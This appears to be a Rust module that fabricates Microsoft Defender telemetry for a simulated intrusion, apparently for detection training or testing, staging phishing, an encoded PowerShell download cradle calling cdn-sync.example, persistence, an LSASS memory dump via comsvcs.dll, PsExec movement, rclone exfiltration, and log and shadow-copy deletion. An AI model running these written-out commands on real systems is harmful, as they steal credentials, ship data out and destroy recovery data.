//! Seven hours of a break-in: a message with a macro document, encoded PowerShell, persistence,
//! discovery, a memory dump of LSASS, movement to other machines, an archive with a password and
//! its way out. Each stage leaves the traces that Defender records of it.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use chrono::{DateTime, TimeDelta, Utc};
use serde_json::json;

use super::estate::{DOMAIN, Device, Estate, NETBIOS, Person, Role};
use super::event::{Account, Process, Scene};
use super::telemetry::Telemetry;
use super::workday::{AlertKind, Email, alert, identity_logon};

const STAGING_HOST: (&str, &str) = ("cdn-sync.example", "203.0.113.66");
const DROP_HOST: (&str, &str) = ("storage-eu.example", "203.0.113.77");
const POWERSHELL: &str = r"C:\Windows\System32\WindowsPowerShell\v1.0";

/// Plays the whole story, beginning at `start`.
pub(super) fn play(telemetry: &mut Telemetry, estate: &Estate, start: DateTime<Utc>) {
    let attack = Attack {
        estate,
        victim: &estate.people[0],
        device: estate.device_of(&estate.people[0]),
        stolen: Account {
            domain: NETBIOS.into(),
            name: "adm-helpdesk".into(),
            sid: "S-1-5-21-1004336348-1177238915-682003330-1020".into(),
            upn: format!("adm-helpdesk@{DOMAIN}"),
            elevated: true,
        },
        start,
    };
    attack.phish(telemetry);
    attack.run_macro(telemetry);
    attack.persist(telemetry);
    attack.discover(telemetry);
    attack.dump_credentials(telemetry);
    attack.spray_passwords(telemetry);
    attack.move_laterally(telemetry);
    attack.collect(telemetry);
    attack.exfiltrate(telemetry);
    attack.cover_tracks(telemetry);
}

struct Attack<'a> {
    estate: &'a Estate,
    victim: &'a Person,
    device: &'a Device,
    /// The account whose credentials were in memory on the first machine.
    stolen: Account,
    start: DateTime<Utc>,
}

impl Attack<'_> {
    fn at(&self, minutes: i64, seconds: i64) -> DateTime<Utc> {
        self.start + TimeDelta::minutes(minutes) + TimeDelta::seconds(seconds)
    }

    fn phish(&self, telemetry: &mut Telemetry) {
        let message = Email {
            sender: "billing@meridlan-invoices.example",
            sender_name: "Meridian Accounts",
            sender_ip: "203.0.113.25",
            subject: "Overdue: invoice 84213",
            authenticated: false,
            attachment: Some(("Invoice_84213.xlsm", "xlsm")),
            url: Some("https://cdn-sync.example/i/84213"),
        };
        let recipients = self.estate.people.iter().take(6);
        for (number, person) in recipients.enumerate() {
            message.deliver(telemetry, person, self.at(0, number as i64 * 9));
        }
    }

    fn run_macro(&self, telemetry: &mut Telemetry) {
        let account = Account::of(self.victim);
        let document = format!(r"C:\Users\{}\Downloads", self.victim.account);
        let outlook = Process::new(
            "OUTLOOK.EXE",
            r"C:\Program Files\Microsoft Office\root\Office16",
            "Microsoft Corporation",
            "OUTLOOK.EXE",
        );
        let excel = Process::new(
            "EXCEL.EXE",
            r"C:\Program Files\Microsoft Office\root\Office16",
            "Microsoft Corporation",
            format!(r#"EXCEL.EXE "{document}\Invoice_84213.xlsm""#),
        );
        let scene = |minute, second, by, parent| Scene {
            at: self.at(minute, second),
            device: self.device,
            account: &account,
            by,
            parent,
        };
        let opening = scene(14, 2, &outlook, "explorer.exe");
        opening.touches_file(
            telemetry,
            "FileCreated",
            &document,
            "Invoice_84213.xlsm",
            84_213,
        );
        opening.starts(telemetry, &excel);
        let powershell = encoded_powershell(
            "IEX (New-Object Net.WebClient).DownloadString('https://cdn-sync.example/s')",
        );
        scene(14, 40, &excel, "OUTLOOK.EXE").starts(telemetry, &powershell);
        let (host, ip) = STAGING_HOST;
        let running = scene(14, 44, &powershell, "EXCEL.EXE");
        running.connects(telemetry, host, ip, 443);
        let dropped = r"C:\Users\Public\Libraries";
        scene(15, 3, &powershell, "EXCEL.EXE").touches_file(
            telemetry,
            "FileCreated",
            dropped,
            "wsyncmgr.exe",
            412_672,
        );
        let implant = implant();
        scene(15, 20, &powershell, "EXCEL.EXE").starts(telemetry, &implant);
        // The implant calls home every five minutes until the end.
        for beat in 0..70 {
            scene(16 + beat * 5, beat % 7, &implant, "powershell.exe")
                .connects(telemetry, host, ip, 443);
        }
    }

    fn persist(&self, telemetry: &mut Telemetry) {
        let account = Account::of(self.victim);
        let implant = implant();
        let scene = Scene {
            at: self.at(21, 0),
            device: self.device,
            account: &account,
            by: &implant,
            parent: "powershell.exe",
        };
        scene.sets_registry(
            telemetry,
            &format!(
                r"HKEY_CURRENT_USER\{}\SOFTWARE\Microsoft\Windows\CurrentVersion\Run",
                self.victim.sid
            ),
            "WorkspaceSync",
            r"C:\Users\Public\Libraries\wsyncmgr.exe -s",
        );
        let task = Process::system(
            "schtasks.exe",
            r#"schtasks.exe /create /f /sc minute /mo 30 /tn "WorkspaceSync" /tr "C:\Users\Public\Libraries\wsyncmgr.exe -s""#,
        );
        Scene {
            at: self.at(21, 30),
            ..scene
        }
        .starts(telemetry, &task);
        let scheduler = Process::system("svchost.exe", "svchost.exe -k netsvcs -p -s Schedule");
        let created = Scene {
            at: self.at(21, 31),
            device: self.device,
            account: &account,
            by: &scheduler,
            parent: "services.exe",
        };
        created.device_event(
            telemetry,
            "ScheduledTaskCreated",
            json!({"AdditionalFields": r#"{"TaskName":"\\WorkspaceSync"}"#}),
        );
    }

    fn discover(&self, telemetry: &mut Telemetry) {
        let account = Account::of(self.victim);
        let shell = Process::system("cmd.exe", "cmd.exe");
        let commands: [(&'static str, &str); 7] = [
            ("whoami.exe", "whoami /all"),
            ("systeminfo.exe", "systeminfo"),
            ("net.exe", r#"net group "Domain Admins" /domain"#),
            ("nltest.exe", "nltest /dclist:meridian"),
            ("net.exe", "net view /all /domain"),
            ("quser.exe", "quser"),
            ("arp.exe", "arp -a"),
        ];
        for (number, (file, line)) in commands.into_iter().enumerate() {
            let scene = Scene {
                at: self.at(34, number as i64 * 21),
                device: self.device,
                account: &account,
                by: &shell,
                parent: "wsyncmgr.exe",
            };
            scene.starts(telemetry, &Process::system(file, line));
        }
    }

    fn dump_credentials(&self, telemetry: &mut Telemetry) {
        let system = Account::system();
        let shell = Process::system("cmd.exe", "cmd.exe");
        let dumper = Process::system(
            "rundll32.exe",
            r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 704 C:\Users\Public\Libraries\l.dmp full",
        );
        let scene = |second, by, parent| Scene {
            at: self.at(52, second),
            device: self.device,
            account: &system,
            by,
            parent,
        };
        scene(10, &shell, "wsyncmgr.exe").starts(telemetry, &dumper);
        scene(11, &dumper, "cmd.exe").device_event(
            telemetry,
            "OpenProcessApiCall",
            json!({
                "FileName": "lsass.exe",
                "FolderPath": r"C:\Windows\System32\lsass.exe",
                "ProcessId": 704,
                "ProcessCommandLine": "lsass.exe",
                "AdditionalFields": r#"{"DesiredAccess":2097151}"#,
            }),
        );
        scene(14, &dumper, "cmd.exe").touches_file(
            telemetry,
            "FileCreated",
            r"C:\Users\Public\Libraries",
            "l.dmp",
            58_720_256,
        );
        alert(
            telemetry,
            self.at(56, 0),
            self.device,
            &AlertKind {
                title: "Sensitive credential memory read",
                category: "CredentialAccess",
                severity: "High",
                techniques: r#"["OS Credential Dumping (T1003)","LSASS Memory (T1003.001)"]"#,
            },
        );
    }

    fn spray_passwords(&self, telemetry: &mut Telemetry) {
        for (number, person) in self.estate.people.iter().enumerate().skip(1) {
            let at = self.at(70, number as i64 * 4);
            identity_logon(telemetry, at, person, self.device, self.estate, false);
        }
    }

    fn move_laterally(&self, telemetry: &mut Telemetry) {
        let lsass = Process::system("lsass.exe", "lsass.exe");
        let targets = self.estate.devices.iter().skip(1).take(6);
        let servers = [Role::FileServer, Role::DatabaseServer].map(|role| self.estate.server(role));
        for (number, device) in targets.chain(servers).enumerate() {
            let scene = Scene {
                at: self.at(82, number as i64 * 35),
                device,
                account: &self.stolen,
                by: &lsass,
                parent: "wininit.exe",
            };
            scene.logs_on(telemetry, "Network", Some(self.device), number != 2);
        }
        let services = Process::system("services.exe", "services.exe");
        let remote = Process::new(
            "PSEXESVC.exe",
            r"C:\Windows",
            "Sysinternals",
            r"C:\Windows\PSEXESVC.exe",
        );
        let file_server = self.estate.server(Role::FileServer);
        let scene = Scene {
            at: self.at(91, 0),
            device: file_server,
            account: &self.stolen,
            by: &services,
            parent: "wininit.exe",
        };
        scene.starts(telemetry, &remote);
        let shell = Process::system("cmd.exe", "cmd.exe /c hostname");
        Scene {
            at: self.at(91, 4),
            by: &remote,
            parent: "services.exe",
            ..scene
        }
        .starts(telemetry, &shell);
    }

    fn collect(&self, telemetry: &mut Telemetry) {
        let shell = Process::system("cmd.exe", "cmd.exe");
        let archiver = Process::new(
            "rar.exe",
            r"C:\PerfLogs",
            "Alexander Roshal",
            r"rar.exe a -hpZ2t9vQ -v500m C:\PerfLogs\a.rar D:\Shares\Contracts D:\Shares\Finance",
        );
        let scene = Scene {
            at: self.at(140, 0),
            device: self.estate.server(Role::FileServer),
            account: &self.stolen,
            by: &shell,
            parent: "PSEXESVC.exe",
        };
        scene.starts(telemetry, &archiver);
        for part in 1..=4 {
            let scene = Scene {
                at: self.at(141 + part * 3, 0),
                by: &archiver,
                parent: "cmd.exe",
                ..scene
            };
            let file = format!("a.part{part}.rar");
            scene.touches_file(telemetry, "FileCreated", r"C:\PerfLogs", &file, 524_288_000);
        }
    }

    fn exfiltrate(&self, telemetry: &mut Telemetry) {
        let shell = Process::system("cmd.exe", "cmd.exe");
        let copier = Process::new(
            "rclone.exe",
            r"C:\PerfLogs",
            "https://rclone.org",
            r"rclone.exe copy C:\PerfLogs remote:inbox --transfers 8 --config C:\PerfLogs\r.conf",
        );
        let scene = Scene {
            at: self.at(168, 0),
            device: self.estate.server(Role::FileServer),
            account: &self.stolen,
            by: &shell,
            parent: "PSEXESVC.exe",
        };
        scene.starts(telemetry, &copier);
        let (host, ip) = DROP_HOST;
        for transfer in 0..48 {
            let scene = Scene {
                at: self.at(168, 5 + transfer * 20),
                by: &copier,
                parent: "cmd.exe",
                ..scene
            };
            scene.connects(telemetry, host, ip, 443);
        }
        alert(
            telemetry,
            self.at(190, 0),
            self.estate.server(Role::FileServer),
            &AlertKind {
                title: "Possible data exfiltration with a copy tool",
                category: "Exfiltration",
                severity: "High",
                techniques: r#"["Exfiltration Over Web Service (T1567)"]"#,
            },
        );
    }

    fn cover_tracks(&self, telemetry: &mut Telemetry) {
        let shell = Process::system("cmd.exe", "cmd.exe");
        let file_server = self.estate.server(Role::FileServer);
        let commands: [(&'static str, &str); 3] = [
            ("wevtutil.exe", "wevtutil.exe cl Security"),
            ("wevtutil.exe", "wevtutil.exe cl System"),
            ("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
        ];
        for (number, (file, line)) in commands.into_iter().enumerate() {
            let scene = Scene {
                at: self.at(204, number as i64 * 12),
                device: file_server,
                account: &self.stolen,
                by: &shell,
                parent: "PSEXESVC.exe",
            };
            scene.starts(telemetry, &Process::system(file, line));
        }
    }
}

fn encoded_powershell(script: &str) -> Process {
    let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let encoded = STANDARD.encode(utf16);
    let line = format!("powershell.exe -NoP -W Hidden -EncodedCommand {encoded}");
    Process::new("powershell.exe", POWERSHELL, "Microsoft Corporation", line)
}

fn implant() -> Process {
    Process::new(
        "wsyncmgr.exe",
        r"C:\Users\Public\Libraries",
        "",
        r"C:\Users\Public\Libraries\wsyncmgr.exe -s",
    )
}
